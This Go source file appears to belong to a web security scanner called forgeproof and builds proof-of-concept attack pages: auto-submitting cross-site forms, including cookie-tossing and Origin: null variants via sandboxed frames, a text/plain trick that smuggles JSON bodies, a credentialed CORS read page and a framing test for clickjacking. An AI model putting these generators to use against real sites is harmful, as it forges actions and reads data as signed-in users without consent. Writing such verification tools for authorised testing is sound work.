package checks

import (
	"encoding/json"
	"html"
	"net/url"
	"sort"
	"strings"
)

// PoC returns a self-contained HTML page that replays probe ex of op from
// an attacker's page: an auto-submitting form (or a navigation for GET),
// inside a sandboxed frame for Origin: null. Open it in a browser that is
// signed in to the target.
func PoC(op *Op, ex *Exchange) string {
	r := ex.Request
	var b strings.Builder
	b.WriteString("<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n")
	if ex.Probe == ProbeNoReferer || ex.Probe == ProbeFetchMetadata {
		b.WriteString("<meta name=\"referrer\" content=\"no-referrer\">\n")
	}
	b.WriteString("<title>forgeproof proof of concept: " + html.EscapeString(op.Method+" "+op.Path) + " (" + ex.Probe + ")</title>\n</head>\n<body>\n")
	switch ex.Probe {
	case ProbeSameSite, ProbeDoubleSubmit:
		b.WriteString("<!-- Host this page on a sibling subdomain of the target, such as " + html.EscapeString(r.Header.Get("Origin")) + ". -->\n")
	case ProbeSameSitePort:
		b.WriteString("<!-- Host this page on another port of the target's host, such as " + html.EscapeString(r.Header.Get("Origin")) + ". -->\n")
	case ProbeFetchMetadata:
		b.WriteString("<!-- Browsers that send Sec-Fetch-Site also send Origin; this page reproduces the request as closely as a browser can. -->\n")
	case ProbeOverrideHeader:
		b.WriteString("<!-- A page can set X-HTTP-Method-Override only through fetch() with a CORS preflight the target approves. -->\n")
	}
	if len(r.Tossed) > 0 {
		// Toss the token cookies: a sibling subdomain sets them for the
		// parent domain, another port of the host for the host itself.
		names := make([]string, 0, len(r.Tossed))
		for n := range r.Tossed {
			names = append(names, n)
		}
		sort.Strings(names)
		b.WriteString("<script>\n")
		for _, n := range names {
			b.WriteString("document.cookie = " + jsString(n+"="+r.Tossed[n]+"; path=/") + " + (location.hostname === " + jsString(r.URL.Hostname()) + " ? \"\" : \"; domain=\" + location.hostname.split(\".\").slice(1).join(\".\"));\n")
		}
		b.WriteString("</script>\n")
	}
	if ex.Probe == ProbeOriginNull {
		// A sandboxed frame has an opaque origin: its form submission
		// carries Origin: null. It targets the top window, so that the
		// request is a top-level navigation.
		b.WriteString("<iframe sandbox=\"allow-scripts allow-forms allow-top-navigation\" srcdoc=\"" + html.EscapeString(pocForm(r, "_top")) + "\"></iframe>\n")
	} else {
		b.WriteString(pocForm(r, ""))
	}
	b.WriteString("</body>\n</html>\n")
	return b.String()
}

// pocForm returns an auto-submitting form that sends r's method, URL and
// body as closely as an HTML form can, into the window named target.
func pocForm(r *Request, target string) string {
	var b strings.Builder
	action := *r.URL
	method := "POST"
	if r.Method == "GET" {
		method = "GET"
	}
	var fields [][2]string
	enctype := ""
	ct := r.Header.Get("Content-Type")
	switch {
	case method == "GET":
		for k, vs := range action.Query() {
			for _, v := range vs {
				fields = append(fields, [2]string{k, v})
			}
		}
		action.RawQuery = ""
	case strings.HasPrefix(ct, "text/plain"):
		enctype = "text/plain"
		fields = textPlainFields(r.Body)
	default:
		vals, _ := url.ParseQuery(string(r.Body))
		for k, vs := range vals {
			for _, v := range vs {
				fields = append(fields, [2]string{k, v})
			}
		}
	}
	sortFields(fields)
	b.WriteString("<form id=\"f\" method=\"" + method + "\" action=\"" + html.EscapeString(action.String()) + "\"")
	if enctype != "" {
		b.WriteString(" enctype=\"" + enctype + "\"")
	}
	if target != "" {
		b.WriteString(" target=\"" + target + "\"")
	}
	b.WriteString(">\n")
	for _, f := range fields {
		b.WriteString("<input type=\"hidden\" name=\"" + html.EscapeString(f[0]) + "\" value=\"" + html.EscapeString(f[1]) + "\">\n")
	}
	b.WriteString("</form>\n<script>document.getElementById(\"f\").submit()</script>\n")
	return b.String()
}

// textPlainFields splits a text/plain body into one form field whose
// name=value serialization is exactly the body: a form with
// enctype="text/plain" joins name and value with "=". The scanner builds
// such bodies so that they contain an "=" (see [TextPlainJSON]).
func textPlainFields(body []byte) [][2]string {
	s := string(body)
	if i := strings.IndexByte(s, '='); i >= 0 {
		return [][2]string{{s[:i], s[i+1:]}}
	}
	return [][2]string{{s, ""}}
}

// TextPlainJSON returns the body an HTML form with enctype="text/plain" can
// send for the JSON object body: the object with one extra member whose
// value holds the "=" the form inserts. ok is false when body is not a JSON
// object.
func TextPlainJSON(body []byte) ([]byte, bool) {
	s := strings.TrimSpace(string(body))
	var obj map[string]any
	if err := json.Unmarshal([]byte(s), &obj); err != nil || !strings.HasSuffix(s, "}") {
		return nil, false
	}
	sep := ","
	if len(obj) == 0 {
		sep = ""
	}
	return []byte(s[:len(s)-1] + sep + `"forgeproof_pad":"="}`), true
}

func sortFields(f [][2]string) {
	for i := 1; i < len(f); i++ {
		for j := i; j > 0 && f[j][0] < f[j-1][0]; j-- {
			f[j], f[j-1] = f[j-1], f[j]
		}
	}
}

// corsPoC returns a page that reads u with the visitor's credentials and
// shows what it got, from a sandboxed frame (Origin: null) when null is set.
func corsPoC(u *url.URL, null bool) string {
	script := "<pre id=\"out\">reading " + html.EscapeString(u.String()) + "…</pre>\n<script>\n" +
		"fetch(" + jsString(u.String()) + ", {credentials: \"include\"})\n" +
		"  .then(r => r.text())\n" +
		"  .then(t => { document.getElementById(\"out\").textContent = t })\n" +
		"  .catch(e => { document.getElementById(\"out\").textContent = \"refused: \" + e })\n</script>\n"
	var b strings.Builder
	b.WriteString("<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>forgeproof proof of concept: credentialed CORS read of " + html.EscapeString(u.Path) + "</title>\n</head>\n<body>\n")
	if null {
		b.WriteString("<iframe sandbox=\"allow-scripts\" srcdoc=\"" + html.EscapeString(script) + "\"></iframe>\n")
	} else {
		b.WriteString(script)
	}
	b.WriteString("</body>\n</html>\n")
	return b.String()
}

// framePoC returns a page that frames u: if the page shows, it can be
// framed (and clickjacked).
func framePoC(u *url.URL) string {
	return "<!doctype html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>forgeproof proof of concept: framing " + html.EscapeString(u.Path) + "</title>\n</head>\n<body>\n" +
		"<p>If the page appears below, any site can frame it.</p>\n" +
		"<iframe src=\"" + html.EscapeString(u.String()) + "\" width=\"900\" height=\"600\"></iframe>\n</body>\n</html>\n"
}

// jsString quotes s as a JavaScript string literal that is safe inside a
// script element (json.Marshal escapes <, > and &).
func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
